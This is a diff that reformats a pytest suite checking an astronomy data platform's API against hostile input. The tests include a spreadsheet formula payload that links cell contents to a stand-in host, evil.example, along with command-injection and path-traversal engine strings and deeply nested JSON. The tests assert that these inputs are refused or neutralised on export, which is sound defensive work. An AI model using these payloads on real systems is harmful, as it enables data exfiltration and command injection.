@@ -15,8 +15,9 @@ from hectornb.obslog import ObslogStore
 
 def api(platform, method, path, **kw):
     headers = {"Authorization": f"token {platform['token']}", **kw.pop("headers", {})}
-    return requests.request(method, platform["base"] + "/hectornb/api/" + path,
-                            headers=headers, timeout=60, **kw)  # fmt: skip
+    return requests.request(
+        method, platform["base"] + "/hectornb/api/" + path, headers=headers, timeout=60, **kw
+    )
 
 
 @pytest.fixture()
@@ -30,11 +31,18 @@ def observer(platform):
 @pytest.fixture()
 def target_list(platform):
     name = f"hostile-{uuid.uuid4().hex[:8]}"
-    body = ('name,ra,dec\n"=HYPERLINK(""http://evil.example/?x""&A1,""click"")",10.0,-45.5\n'
-            "+cmd,11.0,-46.0\n@SUM(1+1),12.0,-47.0\n-2+3,13.0,-48.0\n"
-            "NGC1,14.0,-49.0\n")  # fmt: skip
-    r = api(platform, "POST", "targets/lists", params={"filename": "t.csv", "name": name},
-            data=body.encode())  # fmt: skip
+    body = (
+        'name,ra,dec\n"=HYPERLINK(""http://evil.example/?x""&A1,""click"")",10.0,-45.5\n'
+        "+cmd,11.0,-46.0\n@SUM(1+1),12.0,-47.0\n-2+3,13.0,-48.0\n"
+        "NGC1,14.0,-49.0\n"
+    )
+    r = api(
+        platform,
+        "POST",
+        "targets/lists",
+        params={"filename": "t.csv", "name": name},
+        data=body.encode(),
+    )
     assert r.status_code == 201, r.text
     yield name
     api(platform, "DELETE", f"targets/lists/{name}")
@@ -53,13 +61,17 @@ def test_nul_characters_are_refused_with_the_field(platform, observer):
 
 def test_json_nested_a_hundred_thousand_deep_is_a_422(platform, observer):
     deep = b"[" * 100_000 + b"]" * 100_000
-    for method, path in (("POST", "obslog/logs"), ("POST", "reduce/jobs"),
-                         ("POST", "tokens")):  # fmt: skip
+    for method, path in (("POST", "obslog/logs"), ("POST", "reduce/jobs"), ("POST", "tokens")):
         r = api(platform, method, path, data=deep, headers={"Content-Type": "application/json"})
         assert r.status_code == 422, (path, r.status_code, r.text[:200])
         assert "nested too deeply" in r.json()["error"]
-    r = api(platform, "POST", "obslog/logs", data=b'{"comment": ' + b"[" * 5000 + b"]" * 5000
-            + b"}", headers={"Content-Type": "application/json"})  # fmt: skip
+    r = api(
+        platform,
+        "POST",
+        "obslog/logs",
+        data=b'{"comment": ' + b"[" * 5000 + b"]" * 5000 + b"}",
+        headers={"Content-Type": "application/json"},
+    )
     assert r.status_code == 422
 
 
@@ -78,32 +90,52 @@ def test_reduce_days_must_be_a_finite_number_of_days(platform, value):
     assert api(platform, "GET", "reduce/jobs", params={"days": "0.5"}).status_code == 200
 
 
-@pytest.mark.parametrize("engine", [
-    "2dfdr-docker@x;id", "2dfdr-docker@../../evil", "2dfdr-docker@-rm", "builtin@1 2",
-    "2dfdr-docker@" + "a" * 129])  # fmt: skip
+@pytest.mark.parametrize(
+    "engine",
+    [
+        "2dfdr-docker@x;id",
+        "2dfdr-docker@../../evil",
+        "2dfdr-docker@-rm",
+        "builtin@1 2",
+        "2dfdr-docker@" + "a" * 129,
+    ],
+)
 def test_an_engine_reference_outside_the_tag_grammar_is_refused_at_submit(platform, engine):
     r = api(platform, "POST", "reduce/jobs", json={"frames": ["x.fits"], "engine": engine})
     assert r.status_code == 422 and "after @ comes" in r.json()["error"], r.text
 
 
-def test_exports_show_formulas_as_text_and_keep_what_was_stored(platform, observer,
-                                                                target_list):  # fmt: skip
+def test_exports_show_formulas_as_text_and_keep_what_was_stored(platform, observer, target_list):
     text = api(platform, "GET", f"targets/lists/{target_list}/export.csv").text
     names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
-    assert names == ["'=HYPERLINK(\"http://evil.example/?x\"&A1,\"click\")", "'+cmd",
-                     "'@SUM(1+1)", "'-2+3", "NGC1"]  # fmt: skip
+    assert names == [
+        '\'=HYPERLINK("http://evil.example/?x"&A1,"click")',
+        "'+cmd",
+        "'@SUM(1+1)",
+        "'-2+3",
+        "NGC1",
+    ]
     decs = [row["dec"] for row in csv.DictReader(io.StringIO(text))]
     assert decs[0] == "-45.50000000"  # numbers stay numbers
-    stored = api(platform, "GET", f"targets/lists/{target_list}/targets",
-                 params={"limit": 10}).json()["targets"]  # fmt: skip
-    assert {t["name"] for t in stored} >= {'=HYPERLINK("http://evil.example/?x"&A1,"click")',
-                                            "+cmd", "@SUM(1+1)"}  # fmt: skip
+    stored = api(
+        platform, "GET", f"targets/lists/{target_list}/targets", params={"limit": 10}
+    ).json()["targets"]
+    assert {t["name"] for t in stored} >= {
+        '=HYPERLINK("http://evil.example/?x"&A1,"click")',
+        "+cmd",
+        "@SUM(1+1)",
+    }
     tag = "f" + uuid.uuid4().hex[:8]
-    r = api(platform, "POST", "obslog/logs", json={"night": "2031-05-02", "comment": "=1+1",
-                                                   "tags": [tag]})  # fmt: skip
+    r = api(
+        platform,
+        "POST",
+        "obslog/logs",
+        json={"night": "2031-05-02", "comment": "=1+1", "tags": [tag]},
+    )
     assert r.status_code == 201, r.text
-    rows = list(csv.DictReader(io.StringIO(api(platform, "GET", f"obslog/logs.csv?tags={tag}")
-                                           .text)))  # fmt: skip
+    rows = list(
+        csv.DictReader(io.StringIO(api(platform, "GET", f"obslog/logs.csv?tags={tag}").text))
+    )
     assert [row["comment"] for row in rows] == ["'=1+1"]
     log_id = r.json()["log_id"]
     assert api(platform, "GET", f"obslog/logs/{log_id}").json()["comment"] == "=1+1"
@@ -116,9 +148,18 @@ def test_values_too_long_for_the_database_s_indexes_are_a_422(platform, observer
     long_id = secrets.token_hex(4500)  # 9000 characters that do not compress
     r = api(platform, "POST", "obslog/logs", json={"night": "2031-05-03", "log_id": long_id})
     assert r.status_code == 422 and "too long" in r.json()["error"], r.text[:300]
-    r = api(platform, "POST", "obslog/logs", json={"night": "2031-05-03",
-                                                   "tags": [secrets.token_hex(2500)]})  # fmt: skip
+    r = api(
+        platform,
+        "POST",
+        "obslog/logs",
+        json={"night": "2031-05-03", "tags": [secrets.token_hex(2500)]},
+    )
     assert r.status_code == 422, r.text[:300]
-    r = api(platform, "POST", "targets/lists", data=b"T1,10.0,-45.0\n",
-            params={"filename": "t.csv", "name": secrets.token_hex(1500)})  # fmt: skip
+    r = api(
+        platform,
+        "POST",
+        "targets/lists",
+        data=b"T1,10.0,-45.0\n",
+        params={"filename": "t.csv", "name": secrets.token_hex(1500)},
+    )
     assert r.status_code == 422, r.text[:300]
